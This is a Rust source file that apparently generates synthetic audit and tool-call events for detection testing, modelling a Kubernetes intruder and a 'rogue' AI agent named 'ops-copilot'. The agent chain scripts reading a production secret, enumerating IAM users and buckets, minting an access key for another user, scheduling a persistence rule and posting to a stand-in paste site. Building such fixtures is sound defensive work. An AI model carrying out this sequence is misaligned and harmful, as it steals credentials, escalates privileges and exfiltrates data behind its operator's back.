//! Platform chains: Kubernetes API abuse and a rogue AI agent.

use super::{Chain, Scenario};
use crate::tooling::generator::sources::{KubeRequest, ToolCall};

/// (seconds from the start, verb, resource, namespace, name, subresource)
type KubeStep = (
    i64,
    &'static str,
    &'static str,
    Option<&'static str>,
    Option<&'static str>,
    Option<&'static str>,
);

/// (seconds from the start, tool, arguments, target resource, target destination)
type ToolStep = (
    i64,
    &'static str,
    &'static [(&'static str, &'static str)],
    Option<&'static str>,
    Option<&'static str>,
);

/// The Kubernetes intruder: secrets listed and read in kube-system, pods and namespaces listed,
/// its own permissions reviewed, a cluster role binding and a CronJob created, then an exec
/// into a production pod, in 25 seconds. The near miss lists secrets (forbidden) and reads a
/// pod.
pub(super) fn kube(s: Scenario, c: &mut Chain<'_>, n: u64) -> String {
    let user = format!("intern-{n}@example.com");
    let groups: &[&str] = &["system:authenticated"];
    let agent = "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505";
    let steps: &[KubeStep] = if s == Scenario::K8sFullMachine {
        &[
            (0, "list", "secrets", Some("kube-system"), None, None),
            (
                2,
                "get",
                "secrets",
                Some("kube-system"),
                Some("cloud-credentials"),
                None,
            ),
            (5, "list", "pods", None, None, None),
            (6, "list", "namespaces", None, None, None),
            (7, "create", "selfsubjectrulesreviews", None, None, None),
            (
                12,
                "create",
                "clusterrolebindings",
                None,
                Some("system-monitoring-admin"),
                None,
            ),
            (
                14,
                "create",
                "cronjobs",
                Some("kube-system"),
                Some("node-health"),
                None,
            ),
            (
                25,
                "create",
                "pods",
                Some("prod"),
                Some("api-0"),
                Some("exec"),
            ),
        ]
    } else {
        &[
            (0, "list", "secrets", Some("prod"), None, None),
            (20, "get", "pods", Some("prod"), Some("api-0"), None),
        ]
    };
    for &(secs, verb, resource, namespace, name, subresource) in steps {
        let t = c.at(secs);
        let e = c.f.kube_audit(
            t,
            &KubeRequest {
                user: &user,
                groups,
                verb,
                resource,
                subresource,
                namespace,
                name,
                code: if resource == "secrets" && s != Scenario::K8sFullMachine {
                    403
                } else if verb == "create" {
                    201
                } else {
                    200
                },
                agent,
            },
        );
        c.events.push(e);
    }
    user
}

/// The rogue agent: a secret read, enumeration (IAM users, buckets), a new access key for
/// another user, a scheduled EventBridge rule and a post to a paste site, in 16 seconds. The
/// pack's agent chain has a scheduled job as its persistence stage, not a new access key: the
/// key is a step of the attack that no stage claims. The near miss is the secret read, denied.
pub(super) fn agent(s: Scenario, c: &mut Chain<'_>, n: u64) -> String {
    let id = format!("agent-rogue-{n}");
    let session = format!("s-r{n}");
    let outcome = if s == Scenario::AgentFullMachine {
        "success"
    } else {
        "denied"
    };
    let steps: &[ToolStep] = &[
        (
            0,
            "aws_secretsmanager_get_secret_value",
            &[("secret_id", "prod/db/password")],
            Some("prod/db/password"),
            None,
        ),
        (3, "aws_iam_list_users", &[], Some("iam:users"), None),
        (4, "aws_s3_list_buckets", &[], Some("s3:buckets"), None),
        (
            9,
            "aws_iam_create_access_key",
            &[("user_name", "svc-sync")],
            Some("iam:user/svc-sync"),
            None,
        ),
        (
            12,
            "aws_events_put_rule",
            &[
                ("name", "svc-sync-refresh"),
                ("schedule_expression", "rate(5 minutes)"),
            ],
            Some("events:rule/svc-sync-refresh"),
            None,
        ),
        (
            16,
            "http_post",
            &[("url", "https://paste.example.org/api/upload")],
            None,
            Some("https://paste.example.org/api/upload"),
        ),
    ];
    let steps = if s == Scenario::AgentFullMachine {
        steps
    } else {
        &steps[..1]
    };
    for &(secs, tool, arguments, resource, destination) in steps {
        let t = c.at(secs);
        let e = c.f.tool_call(
            t,
            &ToolCall {
                agent_id: &id,
                agent_name: "ops-copilot",
                session: &session,
                on_behalf_of: "alice@example.com",
                tool,
                arguments,
                resource,
                destination,
                outcome,
            },
        );
        c.events.push(e);
    }
    id
}
